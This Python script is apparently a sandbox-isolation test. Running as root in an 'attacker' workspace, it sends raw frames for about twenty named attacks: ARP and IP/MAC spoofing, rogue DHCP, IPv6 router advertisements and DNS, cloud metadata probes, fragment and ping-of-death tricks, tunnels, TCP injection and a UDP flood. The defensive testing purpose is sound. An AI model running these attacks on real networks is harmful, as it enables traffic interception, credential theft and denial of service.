"""Frames that a workspace's root should not get away with.

    frames.py NAME OWN_IP OWN_MAC GATEWAY_IP VICTIM_IP VICTIM_MAC

Sends the attack NAME on eth0 and prints how many frames (or connections) left this machine.
Runs inside the attacker's workspace, as root, with nothing but Python's own modules.
"""
import socket
import struct
import sys

name, own_ip, own_mac, gateway_ip, victim_ip, victim_mac = sys.argv[1:]
OWN, VICTIM = (bytes.fromhex(m.replace(":", "")) for m in (own_mac, victim_mac))
GATEWAY = bytes([2, 0]) + socket.inet_aton(gateway_ip)
ALL = b"\xff" * 6
PLATFORM_PORTS = [22, 53, 67, 80, 443, 546, 2375, 5353, 5432, 6443, 8080, 8443, 9100, 9990, 9991, 9992, 10250]

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
sent = 0


def frame(dst, src, ethertype, payload):
    global sent
    try:
        raw.send((dst + src + struct.pack("!H", ethertype) + payload).ljust(60, b"\0"))
        sent += 1
    except OSError:
        pass


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(src, dst, protocol, payload, flags=0x4000, ttl=64, options=b"", identity=7, total=None):
    words = 5 + len(options) // 4
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x40 | words, 0, total or words * 4 + len(payload), identity, flags, ttl,
        protocol, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def l4(src, dst, protocol, body, at):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, protocol, len(body))
    return body[:at] + struct.pack("!H", checksum(pseudo + body)) + body[at + 2:]


def udp(src, dst, sport, dport, data=b"casemate"):
    return l4(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)


def tcp(src, dst, sport, dport, flags=2, seq=1, ack=0, data=b""):
    return l4(src, dst, 6, struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 1024, 0, 0) + data, 16)


def arp(op, sha, spa, tha, tpa, dst=ALL, src=None):
    frame(dst, src or OWN, 0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + socket.inet_aton(spa)
          + tha + socket.inet_aton(tpa))


def ip6(src, dst, protocol, payload):
    return (struct.pack("!IHBB", 6 << 28, len(payload), protocol, 255)
            + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + payload)


def icmp6(src, dst, body):
    a, b = (socket.inet_pton(socket.AF_INET6, x) for x in (src, dst))
    return body[:2] + struct.pack("!H", checksum(a + b + struct.pack("!II", len(body), 58) + body)) + body[4:]


def each_port(src, dst, dst_mac, src_mac=None):
    for port in PLATFORM_PORTS:
        frame(dst_mac, src_mac or OWN, 0x0800, ip(src, dst, 17, udp(src, dst, 40000, port)))
        frame(dst_mac, src_mac or OWN, 0x0800, ip(src, dst, 6, tcp(src, dst, 40000, port)))


def connects(address, ports):
    """By the kernel, as a program would."""
    global sent
    for port in ports:
        s = socket.socket()
        s.settimeout(0.05)
        try:
            s.connect((address, port))
            print("connected", address, port)
        except OSError:
            pass
        sent += 1
        s.close()


def spoofed_ip():
    for src in (victim_ip, gateway_ip, "127.0.0.1", "0.0.0.0", "8.8.8.8", "255.255.255.255", "224.0.0.1"):
        each_port(src, gateway_ip, GATEWAY)
        each_port(src, victim_ip, GATEWAY)


def spoofed_mac():
    for mac in (VICTIM, GATEWAY, ALL, b"\0" * 6, bytes.fromhex("01005e000001")):
        each_port(own_ip, gateway_ip, GATEWAY, mac)
        each_port(own_ip, victim_ip, GATEWAY, mac)


def arp_claims_gateway():
    for _ in range(20):
        arp(2, OWN, gateway_ip, ALL, gateway_ip)
        arp(2, OWN, gateway_ip, GATEWAY, gateway_ip, GATEWAY)
        arp(1, OWN, gateway_ip, b"\0" * 6, gateway_ip)


def arp_claims_victim():
    for _ in range(20):
        arp(2, OWN, victim_ip, GATEWAY, gateway_ip, GATEWAY)
        arp(1, OWN, victim_ip, b"\0" * 6, gateway_ip)
        arp(1, VICTIM, victim_ip, b"\0" * 6, gateway_ip, ALL, VICTIM)


def arp_scan():
    base = own_ip.rsplit(".", 1)[0]
    for n in range(256):
        arp(1, OWN, own_ip, b"\0" * 6, f"{base}.{n}")


def nd_and_ra():
    link = b"\x02\x01" + OWN
    for body in (
        b"\x88\0\0\0\xe0\0\0\0" + socket.inet_pton(socket.AF_INET6, "fe80::1") + link,
        b"\x86\0\0\0\x40\x08\x07\x08" + b"\0" * 8 + link,
        b"\x85\0\0\0\0\0\0\0" + link,
        b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, "fe80::1") + link,
        b"\x80\0\0\0\0\x01\0\x01",
    ):
        for dst, mac in (("ff02::1", "333300000001"), ("ff02::2", "333300000002"), ("fe80::1", GATEWAY.hex())):
            frame(bytes.fromhex(mac), OWN, 0x86DD, ip6("fe80::bad", dst, 58, icmp6("fe80::bad", dst, body)))


def ipv6_link_local():
    for dst in ("fe80::1", "ff02::1", "::1", "::ffff:127.0.0.1", "fd00::1"):
        for port in PLATFORM_PORTS:
            body = struct.pack("!HHHH", 40000, port, 16, 0xFFFF) + b"casemate"
            frame(GATEWAY, OWN, 0x86DD, ip6("fe80::bad", dst, 17, body))


def dhcp():
    for kind, sport, dport in ((1, 68, 67), (2, 67, 68), (5, 67, 68)):
        body = struct.pack("!BBBBIHH", 1 if kind == 1 else 2, 1, 6, 0, 9, 0, 0) + b"\0" * 16 + OWN + b"\0" * 202
        body += b"\x63\x82\x53\x63" + bytes([53, 1, kind, 3, 4]) + socket.inet_aton(own_ip) + b"\xff"
        src = "0.0.0.0" if kind == 1 else own_ip
        for _ in range(10):
            frame(ALL, OWN, 0x0800, ip(src, "255.255.255.255", 17, udp(src, "255.255.255.255", sport, dport, body)))


def host_addresses():
    each_port(own_ip, gateway_ip, GATEWAY)
    connects(gateway_ip, PLATFORM_PORTS)
    for dst in ("127.0.0.1", "10.0.0.1", "172.17.0.1", "192.168.0.1", "192.168.1.1"):
        each_port(own_ip, dst, GATEWAY)


def metadata_address():
    for dst in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"):
        each_port(own_ip, dst, GATEWAY)
        connects(dst, [80])


def other_workspaces():
    each_port(own_ip, victim_ip, GATEWAY)
    each_port(own_ip, victim_ip, VICTIM)
    connects(victim_ip, PLATFORM_PORTS)
    base = own_ip.rsplit(".", 1)[0]
    for n in range(2, 255):
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, f"{base}.{n}", 6, tcp(own_ip, f"{base}.{n}", 40000, 9991)))


def icmp_everywhere():
    echo = b"\x08\0\0\0\0\x01\0\x01casemate"
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    redirect = b"\x05\x01\0\0" + socket.inet_aton(own_ip) + ip(gateway_ip, victim_ip, 17, b"\0" * 8)
    redirect = redirect[:2] + struct.pack("!H", checksum(redirect)) + redirect[4:]
    for dst in (gateway_ip, victim_ip, "255.255.255.255", "224.0.0.1"):
        for body in (echo, redirect):
            frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 1, body))


def fragments():
    for dst in (gateway_ip, victim_ip):
        whole = tcp(own_ip, dst, 40000, 9991)
        # A header cut in two, overlapping pieces that rewrite the port, a hole, a ping of death.
        for identity, pieces in enumerate((
            ((0, whole[:8], True), (1, whole[8:], False)),
            ((0, whole[:16], True), (1, tcp(own_ip, dst, 40000, 9990)[8:], False)),
            ((1, whole[8:], False), (0, whole[:8], True)),
            ((0, whole, True),),
            ((8189, b"x" * 64, False),),
            ((0, b"", True), (1, b"", False)),
        ), 100):
            for at, data, more in pieces:
                frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 6, data, at | (0x2000 if more else 0), identity=identity))
    for n in range(2000):
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, gateway_ip, 17, b"x" * 64, 0x2000 | (n % 8000), identity=n))


def source_routes():
    for kind in (0x83, 0x89, 0x07, 0x44):
        options = bytes([kind, 7, 4]) + socket.inet_aton(victim_ip) + b"\0"
        for dst in (gateway_ip, victim_ip):
            frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 17, udp(own_ip, dst, 40000, 53), options=options))


def odd_protocols():
    for protocol in range(256):
        if protocol in (6, 17, 1):
            continue
        for dst in (gateway_ip, victim_ip):
            frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, protocol, b"casemate" * 4))


def tunnels():
    inner = ip(victim_ip, gateway_ip, 17, udp(victim_ip, gateway_ip, 40000, 53))
    for dst in (gateway_ip, victim_ip):
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 4, inner))
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 47, b"\0\0\x08\0" + inner))
        for port in (4789, 6081, 8472, 51820, 1701):
            frame(GATEWAY, OWN, 0x0800, ip(own_ip, dst, 17, udp(own_ip, dst, 40000, port, b"\x08\0\0\0\0\0\0\0" + inner)))


def odd_frames():
    inner = struct.pack("!H", 0x0800) + ip(own_ip, gateway_ip, 17, udp(own_ip, gateway_ip, 40000, 53))
    for ethertype in (0x8100, 0x88A8, 0x9100, 0x8847, 0x8864, 0x88CC, 0x88E5, 0x888E, 0x0842, 0x22F0, 0x8906, 0x0026):
        for dst in (GATEWAY, VICTIM, ALL, bytes.fromhex("0180c2000000"), bytes.fromhex("01000ccccccc")):
            frame(dst, OWN, ethertype, struct.pack("!H", 1) + inner)


def malformed():
    good = ip(own_ip, gateway_ip, 17, udp(own_ip, gateway_ip, 40000, 53))
    for bad in (good[:10], b"\x4f" + good[1:], b"\x00" + good[1:], good[:2] + b"\xff\xff" + good[4:],
                good[:8] + b"\0" + good[9:], b"", b"\xff" * 1400, good[:10] + b"\0\0" + good[12:]):
        for dst in (GATEWAY, ALL):
            frame(dst, OWN, 0x0800, bad)


def into_the_edges_connection():
    # The one path that is open: as if the answers came from elsewhere, or asked for more.
    for port in list(range(32768, 33768)):
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, gateway_ip, 6, tcp(own_ip, gateway_ip, 9990, port, 0x12, 1, 1)))
        frame(GATEWAY, OWN, 0x0800, ip(victim_ip, gateway_ip, 6, tcp(victim_ip, gateway_ip, 9991, port, 0x18, 1, 1, b"x")))
    for port in PLATFORM_PORTS:
        frame(GATEWAY, OWN, 0x0800, ip(own_ip, gateway_ip, 6, tcp(own_ip, gateway_ip, 40001, port)))


def rogue_dns_and_mdns():
    body = struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + b"\x04mint\0\0\1\0\1\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(own_ip)
    for dst, sport, dport in ((gateway_ip, 53, 40000), ("224.0.0.251", 5353, 5353), ("255.255.255.255", 53, 53),
                              ("224.0.0.252", 5355, 5355), ("239.255.255.250", 1900, 1900)):
        for _ in range(10):
            frame(ALL, OWN, 0x0800, ip(own_ip, dst, 17, udp(own_ip, dst, sport, dport, body)))


def flood():
    packet = GATEWAY + OWN + b"\x08\0" + ip(own_ip, victim_ip, 17, udp(own_ip, victim_ip, 40000, 9991, b"x" * 1000))
    global sent
    for _ in range(20000):
        try:
            raw.send(packet)
            sent += 1
        except OSError:
            pass


attacks = {f.__name__: f for f in (
    spoofed_ip, spoofed_mac, arp_claims_gateway, arp_claims_victim, arp_scan, nd_and_ra, ipv6_link_local, dhcp,
    host_addresses, metadata_address, other_workspaces, icmp_everywhere, fragments, source_routes, odd_protocols,
    tunnels, odd_frames, malformed, into_the_edges_connection, rogue_dns_and_mdns, flood)}
if name == "names":
    print(" ".join(attacks))
else:
    attacks[name]()
    print("sent", sent)
